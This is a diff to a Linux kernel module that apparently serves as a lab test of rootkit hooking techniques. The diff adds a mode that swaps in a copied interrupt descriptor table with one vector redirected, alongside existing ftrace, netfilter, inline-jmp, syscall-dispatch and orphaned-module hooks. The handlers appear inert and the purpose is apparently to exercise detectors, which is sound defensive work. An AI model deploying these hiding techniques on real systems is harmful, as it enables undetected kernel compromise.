@@ -10,6 +10,7 @@
  *   mode=netfilter  an IPv4 PRE_ROUTING hook in init_net (magic packets)
  *   mode=inline     a 5-byte jmp over the fentry NOP of __x64_sys_kexec_load (KHOOK)
  *   mode=syscall    the branch to __x64_sys_kexec_load inside x64_sys_call re-pointed
+ *   mode=idt        a copy of the IDT with vector VECTOR re-pointed, loaded with lidt
  *
  * orphan=1 copies the handler into fresh executable module-area memory, points the
  * hook there and fails its init, so the kernel frees the module: the hook runs code
@@ -31,6 +32,7 @@
 #include <linux/string.h>
 #include <linux/vmalloc.h>
 #include <net/net_namespace.h>
+#include <asm/desc.h>
 
 static char *mode = "ftrace";
 module_param(mode, charp, 0);
@@ -38,6 +40,7 @@ static int orphan;
 module_param(orphan, int, 0);
 static unsigned long undo;
 module_param(undo, ulong, 0);
+#define VECTOR 0xf1  /* an unused system vector: the hook is never taken */
 
 #define ORPHAN_STATE 0x800
 struct rk_state {
@@ -105,6 +108,8 @@ static unsigned int rk_nf(void *priv, struct sk_buff *skb, const struct nf_hook_
 }
 
 static struct rk_state rk;
+static struct desc_ptr saved_idtr;
+static gate_desc *idt_copy;
 static void *code;
 static u8 saved[5];
 static unsigned long patched_at;
@@ -181,7 +186,7 @@ static int __init rk_init(void)
 		memset((void *)(undo + ORPHAN_STATE), 0, sizeof(*st));
 		return -EAGAIN;
 	}
-	if (orphan || !strcmp(mode, "inline") || !strcmp(mode, "syscall")) {
+	if (orphan || !strcmp(mode, "inline") || !strcmp(mode, "syscall") || !strcmp(mode, "idt")) {
 		code = !strcmp(mode, "netfilter") ? orphan_copy(accept_code, sizeof(accept_code))
 						  : orphan_copy(zero_code, sizeof(zero_code));
 		if (!code)
@@ -230,6 +235,23 @@ static int __init rk_init(void)
 		unsigned long site = branch_in(lookup("x64_sys_call"), lookup("__x64_sys_kexec_load"));
 
 		err = site ? jmp_to(site, (unsigned long)code, *(u8 *)site) : -ENOENT;
+	} else if (!strcmp(mode, "idt")) {
+		/* IDT replacement: the CPU dispatches through a table no check reads in place
+		 * of idt_table (one vCPU in the lab). */
+		struct desc_ptr idtr;
+		unsigned long handler = (unsigned long)code;
+
+		idt_copy = (gate_desc *)get_zeroed_page(GFP_KERNEL);
+		if (!idt_copy)
+			return -ENOMEM;
+		store_idt(&saved_idtr);
+		memcpy(idt_copy, (void *)saved_idtr.address, saved_idtr.size + 1);
+		idt_copy[VECTOR].offset_low = (u16)handler;
+		idt_copy[VECTOR].offset_middle = (u16)(handler >> 16);
+		idt_copy[VECTOR].offset_high = (u32)(handler >> 32);
+		idtr.address = (unsigned long)idt_copy;
+		idtr.size = saved_idtr.size;
+		load_idt(&idtr);
 	} else {
 		err = -EINVAL;
 	}
@@ -245,6 +267,10 @@ static void __exit rk_exit(void)
 	void (*memfree)(void *) = (void *)(lookup("module_memfree") ?: lookup("execmem_free"));
 
 	unhook(&rk);
+	if (idt_copy) {
+		load_idt(&saved_idtr);
+		free_page((unsigned long)idt_copy);
+	}
 	if (patched_at)
 		poke(patched_at, saved);
 	if (code && memfree)
